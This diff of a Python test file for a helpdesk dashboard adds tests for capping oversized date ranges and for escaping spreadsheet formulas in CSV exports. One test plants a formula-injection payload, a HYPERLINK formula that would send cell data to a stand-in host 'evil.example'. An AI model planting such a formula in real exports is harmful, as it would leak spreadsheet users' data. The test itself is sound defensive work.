@@ -15,7 +15,7 @@ from models import reports
 from models.base import utcnow
 from models.tables import Agent, Survey, Ticket
 from tests.conftest import load_eml, signed_in
-from web import create_app
+from web import create_app, dashboard
 
 
 @pytest.fixture
@@ -97,3 +97,27 @@ def test_the_backlog_counts_open_tickets_by_age(app):
     Ticket.update(status="pending").where(Ticket.number == 2).execute()
     backlog = {r[0]: r[1:] for r in reports.dashboard(now, now, now, only="backlog")["backlog"].rows}
     assert backlog["new"] == [1, 0, 0, 0, 0, 1] and backlog["pending"] == [0, 0, 1, 0, 0, 1]
+
+
+def test_a_range_of_centuries_is_cut_to_the_latest_two_years_up_to_today(app, settings):
+    """Each day not yet summed is summed on the way: a link (or an image in a client's mail)
+    asking for year 1 to 9999 must not be hours of work."""
+    from models.tables import ReportDay
+
+    client = signed_in(app)
+    assert client.get("/dashboard?from=0001-01-01&to=9999-12-31").status_code == 200
+    days = {row.day for row in ReportDay.select(ReportDay.day)}
+    assert len(days) <= dashboard.MAX_DAYS + 1 and max(days) <= utcnow().date()  # and the watermark row
+    assert client.get("/dashboard?from=9999-12-31&to=2026-01-01").status_code == 200  # reversed, far ahead
+    exported = client.get("/dashboard/agents.csv?from=0001-01-01&to=9999-12-31")
+    assert exported.status_code == 200 and "9999" not in exported.headers["Content-Disposition"]
+
+
+def test_a_clients_survey_comment_exports_as_text_not_as_a_spreadsheet_formula(app, settings):
+    agnes = Agent.get(Agent.email == "agnes@example.com")
+    act.set_status(Ticket.get(Ticket.number == 1), "resolved", settings=settings, actor=agnes, via="web")
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    Survey.update(state="sent", sent_at=utcnow(), rating=1, comment=formula, responded_at=utcnow()).execute()
+    exported = signed_in(app).get(f"/dashboard/csat_comments.csv?from={utcnow():%Y-%m-%d}&to={utcnow():%Y-%m-%d}")
+    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"))))
+    assert ["'" + formula] in [row[-1:] for row in rows] and [formula] not in [row[-1:] for row in rows]
